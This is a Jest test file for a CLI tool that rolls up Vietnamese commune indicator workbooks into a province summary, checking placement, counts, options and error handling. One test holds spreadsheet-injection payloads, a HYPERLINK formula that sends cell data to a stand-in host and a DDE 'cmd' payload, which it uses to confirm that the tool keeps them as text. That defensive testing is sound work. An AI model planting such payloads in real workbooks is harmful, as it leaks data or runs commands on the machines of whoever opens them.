import ExcelJS from 'exceljs';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { main } from '../../src/cli/main';
import type { RollupJson } from '../../src/core/rollup/json';
import { FIXTURES, loadTruth } from '../helpers/fixtures';
import { captureIo } from '../helpers/io';

// Reading and writing workbooks is slow on a loaded two-core machine; the limit guards against hangs, not speed.
jest.setTimeout(60_000);

const PROVINCE = path.join(FIXTURES, 'province-2026-04');
const base = (f: string) => path.basename(f);

async function tempDir(): Promise<string> {
  return fs.mkdtemp(path.join(os.tmpdir(), 'phuluc-rollup-'));
}

async function rollup(args: string[]): Promise<{ json: RollupJson; code: number; stderr: string }> {
  const io = captureIo();
  await main(['rollup', ...args, '--json'], io);
  return { json: JSON.parse(io.stdout()) as RollupJson, code: io.code(), stderr: io.stderr() };
}

/** A small commune workbook written with exceljs, for cases the fixtures do not have. */
async function communeWorkbook(file: string, commune: string, rows: (string | number)[][]): Promise<void> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('PL mục tiêu');
  ws.getCell('A1').value = 'Phụ lục. TÌNH HÌNH THỰC HIỆN CÁC MỤC TIÊU';
  ws.getCell('A2').value = `(Kèm theo Báo cáo số /BC-UBND ngày 24/4/2026 của UBND xã ${commune})`;
  ws.getRow(4).values = ['TT', 'Chỉ tiêu', 'Đơn vị tính', 'Mục tiêu', 'Kết quả tháng 4/2026'];
  rows.forEach((r, i) => { ws.getRow(5 + i).values = r; });
  await wb.xlsx.writeFile(file);
}

describe('phuluc rollup on the public province', () => {
  let result: { json: RollupJson; code: number; stderr: string };
  beforeAll(async () => { result = await rollup([PROVINCE, '-o', path.join(await tempDir(), 'rollup.xlsx')]); }, 120_000);

  it('places every commune value in one indicator per truth key, with the check status', async () => {
    const truth = await loadTruth();
    const wanted = new Map<string, { key: string; status: string }>();
    for (const w of truth.province) for (const sh of w.sheets) for (const t of sh.tables) for (const r of t.rows) {
      wanted.set(`${base(w.file)}!${sh.sheet}!${r.row}`, { key: r.key ?? '', status: r.status });
    }
    const groupsOfKey = new Map<string, Set<string>>();
    const keysOfGroup = new Map<string, Set<string>>();
    let placed = 0;
    for (const ind of result.json.indicators) {
      for (const v of ind.values) {
        const t = wanted.get(`${base(v.file)}!${v.sheet}!${v.row}`);
        if (!t) continue;
        placed++;
        expect(v.status).toBe(t.status);
        (groupsOfKey.get(t.key) ?? groupsOfKey.set(t.key, new Set()).get(t.key))?.add(ind.key);
        (keysOfGroup.get(ind.key) ?? keysOfGroup.set(ind.key, new Set()).get(ind.key))?.add(t.key);
      }
    }
    expect(placed).toBe(wanted.size);
    for (const [key, groups] of groupsOfKey) expect({ key, groups: groups.size }).toEqual({ key, groups: 1 });
    for (const [group, keys] of keysOfGroup) expect({ group, keys: keys.size }).toEqual({ group, keys: 1 });
  });

  it('names every commune and reads every file', async () => {
    const truth = await loadTruth();
    expect(result.json.communes).toHaveLength(30);
    for (const w of truth.province) {
      const c = result.json.communes.find(x => base(x.file) === base(w.file));
      expect(c).toMatchObject({ name: w.commune, error: null, encoding: 'unicode' });
    }
    expect(result.code).toBe(0);
  });

  it('counts every commune once per indicator', () => {
    for (const ind of result.json.indicators) {
      const total = Object.values(ind.counts).reduce((a, b) => a + b, 0);
      expect(total).toBe(30);
    }
  });

  it('rolls up indicator tables only and leaves the budget sheets out', () => {
    const sheets = new Set(result.json.indicators.flatMap(i => i.values.map(v => v.sheet)));
    expect(sheets.has('Kinh phí')).toBe(false);
  });
});

describe('phuluc rollup files and options', () => {
  it('writes the four sheets and adds, never replaces, when the workbook exists', async () => {
    const dir = await tempDir();
    const out = path.join(dir, 'tong-hop.xlsx');
    const files = ['bao-cao-t4-2026-binh_yen.xlsx', 'bao-cao-t4-2026-dai_tu.xlsx'].map(f => path.join(PROVINCE, f));
    const io = captureIo();
    await main(['rollup', ...files, '-o', out], io);
    expect(io.stdout()).toContain('Tổng hợp: 2 xã, phường từ 2 tệp');
    await main(['rollup', ...files, '-o', out], captureIo());
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    expect(wb.worksheets.map(w => w.name)).toEqual(['Tổng hợp', 'Theo xã', 'Dữ liệu', 'Cần xem lại', 'Tổng hợp (2)', 'Theo xã (2)', 'Dữ liệu (2)', 'Cần xem lại (2)']);
    const summary = wb.getWorksheet('Tổng hợp');
    // Commune columns follow the 14 fixed columns (see SUMMARY_COLUMNS).
    expect(summary?.getCell('O4').value).toBe('Bình Yên');
    expect(summary?.getCell('P4').value).toBe('Đại Từ');
  });

  it('reports unreadable files (a CSV renamed .xlsx) and still rolls up the rest (exit 2)', async () => {
    const dir = await tempDir();
    const csv = path.join(dir, 'xa-loi.xlsx');
    await fs.writeFile(csv, 'TT,Chỉ tiêu,Kết quả\n1,Tỷ lệ phủ sóng 5G,90\n');
    const { json, code } = await rollup([csv, path.join(PROVINCE, 'bao-cao-t4-2026-binh_yen.xlsx')]);
    expect(code).toBe(2);
    expect(json.communes[0]?.error).toBeTruthy();
    expect(json.communes[1]?.error).toBeNull();
    expect(json.indicators.length).toBeGreaterThan(10);
  });

  it('keeps text from commune files as text in the workbook, never as a formula', async () => {
    const dir = await tempDir();
    const src = path.join(dir, 'xa-thu.xlsx');
    const evil = '=HYPERLINK("http://x.example/?"&A1,"Tỷ lệ phủ sóng 5G")';
    const pipe = "+cmd|' /C calc'!A0";
    await communeWorkbook(src, 'Thử Nghiệm', [
      [1, 'Tỷ lệ phủ sóng 5G trên địa bàn xã', '%', '90', '95'],
      [2, evil, '%', '80', pipe],
      [3, 'Tỷ lệ người dân có chữ ký số', '%', '10', '12'],
    ]);
    const out = path.join(dir, 'tong-hop.xlsx');
    const io = captureIo();
    await main(['rollup', src, '-o', out], io);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const texts: unknown[] = [];
    for (const ws of wb.worksheets) {
      ws.eachRow(row => row.eachCell(cell => {
        expect(cell.formula).toBeFalsy();
        texts.push(cell.value);
      }));
    }
    expect(texts).toContain(evil);
    expect(texts).toContain(pipe);
  });

  it('applies corrections from --map and lists bad entries', async () => {
    const dir = await tempDir();
    const src = path.join(dir, 'xa-thu.xlsx');
    await communeWorkbook(src, 'Thử Nghiệm', [
      [1, 'Tỷ lệ phủ sóng 5G trên địa bàn xã', '%', '90', '95'],
      [2, 'Chỉ số lạ chưa có trong danh mục', '%', '80', '85'],
    ]);
    const before = await rollup([src]);
    expect(before.json.indicators.some(i => i.key.startsWith('unmatched:'))).toBe(true);
    const map = path.join(dir, 'mapping.json');
    await fs.writeFile(map, JSON.stringify({ version: 1, mappings: [
      { name: 'chi so la chua co trong danh muc', id: 'cashless_transactions' },
      { name: 'x', id: 'khong_co' },
    ] }));
    const after = await rollup([src, '--map', map]);
    expect(after.json.indicators.map(i => i.key)).toEqual(['5g_coverage', 'cashless_transactions']);
    expect(after.json.unmatched).toEqual([]);
    expect(after.stderr).toMatch(/khong_co/);
  });

  it('refuses an unreadable mapping file (exit 1)', async () => {
    const io = captureIo();
    await main(['rollup', PROVINCE, '--json', '--map', path.join(await tempDir(), 'khong-co.json')], io);
    expect(io.code()).toBe(1);
    expect(io.stderr()).toMatch(/ánh xạ/);
  });
});
